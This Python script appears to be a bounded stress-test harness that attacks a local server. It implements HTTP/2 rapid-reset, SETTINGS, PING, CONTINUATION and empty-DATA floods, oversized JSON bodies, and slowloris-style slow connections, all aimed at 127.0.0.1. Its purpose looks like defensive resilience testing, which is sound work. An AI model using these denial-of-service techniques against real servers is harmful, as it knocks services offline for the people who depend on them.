"""Hostile clients, as a program: attacker.py KIND PORT. Says `ready` once they are at work, and
works until its input ends; then prints what it has done. Bounded in number and in pace: who is cut
off comes again after a while."""

from __future__ import annotations

import json
import os
import selectors
import socket
import sys
import time
from collections.abc import Iterator

SLOW_CONNECTIONS = 2000
ATTACKERS = 8
AGAIN_S = 0.1
LIFETIME_S = 60.0  # At the most, whatever becomes of whoever started this.

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, HEADERS, DATA, RST_STREAM, PING, CONTINUATION = 4, 1, 0, 3, 6, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    size, of = len(payload).to_bytes(3, "big"), stream.to_bytes(4, "big")
    return size + bytes([kind, flags]) + of + payload


def literal(name: int, value: bytes) -> bytes:
    """A field whose name has a low index in HPACK's static table."""
    return bytes([name, len(value)]) + value


# POST http /score, without a body's length.
REQUEST = b"\x83\x86" + literal(4, b"/score") + literal(1, b"localhost")
HELLO = PREFACE + frame(SETTINGS, 0, 0)


def numbers(first: int = 1) -> Iterator[int]:
    """Of a client's streams."""
    return iter(range(first, 2**31, 2))


def rapid_reset() -> Iterator[bytes]:
    for stream in numbers():
        yield frame(HEADERS, END_HEADERS, stream, REQUEST) + frame(
            RST_STREAM, 0, stream, (8).to_bytes(4, "big")
        )


def settings() -> Iterator[bytes]:
    while True:
        yield frame(SETTINGS, 0, 0, b"\0\4\0\1\0\0")


def ping() -> Iterator[bytes]:
    while True:
        yield frame(PING, 0, 0, b"12345678")


def continuation() -> Iterator[bytes]:
    yield frame(HEADERS, 0, 1, REQUEST)
    while True:
        yield frame(CONTINUATION, 0, 1, literal(0, b"x") + literal(0, b"y")[1:])


def empty_data() -> Iterator[bytes]:
    yield frame(HEADERS, END_HEADERS, 1, REQUEST)
    while True:
        yield frame(DATA, 0, 1)


FLOODS = {
    "rapid reset": rapid_reset,
    "settings": settings,
    "ping": ping,
    "continuation": continuation,
    "empty data": empty_data,
}


def bombs() -> list[bytes]:
    """Bodies of JSON that mean much work or memory for their size."""
    million = 1_000_000
    bodies = [
        b'{"data": ' + b"[" * million,
        b'{"data": [' + b"[]," * (million // 3) + b"[]]}",
        b'{"data": [[1' + b"0" * million + b"]]}",
        b'{"data": [[' + b"1," * (million // 2) + b"1]]}",
        b'{"data": [{' + b",".join(b'"%d":0' % i for i in range(million // 9)) + b"}]}",
        b'{"data": [["' + b"\\u0041" * (million // 6) + b'"]]}',
        b'{"' + b"a" * million + b'": 1}',
    ]
    head = "POST /score HTTP/1.1\r\nHost: localhost\r\nContent-Length: {}\r\n\r\n"
    return [head.format(len(body)).encode() + body for body in bodies]


def flood_bytes(kind: str) -> bytes:
    """A megabyte of it; what a connection sends again and again would reuse streams."""
    made, size = [HELLO], 0
    for piece in FLOODS[kind]():
        made.append(piece)
        size += len(piece)
        if size > 1 << 20:
            return b"".join(made)
    raise AssertionError


class Attackers:
    """Each sends as fast as the server reads, and drops what it is answered."""

    def __init__(self, port: int, messages: list[bytes], close_on_answer: bool) -> None:
        self._port = port
        self._messages = messages
        self._close_on_answer = close_on_answer
        self._selector = selectors.DefaultSelector()
        self._waiting: list[float] = [0.0] * ATTACKERS  # When each comes again.
        self._turn = 0
        self.sent = 0
        self.connections = 0

    def step(self) -> None:
        now = time.monotonic()
        for at in [at for at in self._waiting if at <= now]:
            self._waiting.remove(at)
            self._connect()
        for key, events in self._selector.select(0.01):
            self._serve(key.fileobj, key.data, events)

    def _connect(self) -> None:
        client = socket.socket()
        client.setblocking(False)
        client.connect_ex(("127.0.0.1", self._port))
        message = memoryview(self._messages[self._turn % len(self._messages)])
        self._turn += 1
        self.connections += 1
        both = selectors.EVENT_READ | selectors.EVENT_WRITE
        self._selector.register(client, both, [message])

    def _serve(self, client: socket.socket, rest: list[memoryview], events: int) -> None:
        try:
            if events & selectors.EVENT_READ:
                answer = client.recv(65536)
                if not answer or self._close_on_answer:
                    return self._leave(client)
            if events & selectors.EVENT_WRITE:
                count = client.send(rest[0][:65536])
                self.sent += count
                rest[0] = rest[0][count:]
                if not rest[0]:
                    self._selector.modify(client, selectors.EVENT_READ, rest)
        except BlockingIOError:
            pass
        except OSError:
            self._leave(client)

    def _leave(self, client: socket.socket) -> None:
        self._selector.unregister(client)
        client.close()
        self._waiting.append(time.monotonic() + AGAIN_S)


class SlowClients:
    """Each holds a connection and sends a byte of a request now and then."""

    HEAD = b"POST /score HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000\r\nX-Slow: "

    def __init__(self, port: int) -> None:
        self._clients = [
            socket.create_connection(("127.0.0.1", port)) for _ in range(SLOW_CONNECTIONS)
        ]
        for i, client in enumerate(self._clients):
            # Half of them are slow with their head, half with their body.
            client.sendall(self.HEAD if i % 2 == 0 else self.HEAD + b"1\r\n\r\n")
        self.connections = SLOW_CONNECTIONS
        self.sent = SLOW_CONNECTIONS * len(self.HEAD)
        self._turn = 0

    def step(self) -> None:
        """A tenth of a second in which 200 of them send a byte."""
        for _ in range(SLOW_CONNECTIONS // 10):
            try:
                self.sent += self._clients[self._turn].send(b"1")
            except OSError:  # Cut off, as it deserves.
                self.connections += 1
                self._clients[self._turn].close()
                self._clients[self._turn] = socket.create_connection(
                    self._clients[self._turn - 1].getpeername()
                )
                self._clients[self._turn].sendall(self.HEAD)
            self._turn = (self._turn + 1) % SLOW_CONNECTIONS
        time.sleep(0.1)


def main() -> None:
    kind, port = sys.argv[1], int(sys.argv[2])
    attack: Attackers | SlowClients
    if kind == "slow connections":
        attack = SlowClients(port)
    elif kind == "JSON bombs":
        attack = Attackers(port, bombs(), close_on_answer=True)
    else:
        attack = Attackers(port, [flood_bytes(kind)], close_on_answer=False)
    attack.step()
    # The generator, on the same processor, must not have to wait.
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    print("ready", flush=True)
    os.set_blocking(0, False)
    end = time.monotonic() + LIFETIME_S
    while time.monotonic() < end and sys.stdin.buffer.read(1) is None:
        attack.step()
    print(json.dumps({"bytes": attack.sent, "connections": attack.connections}), flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
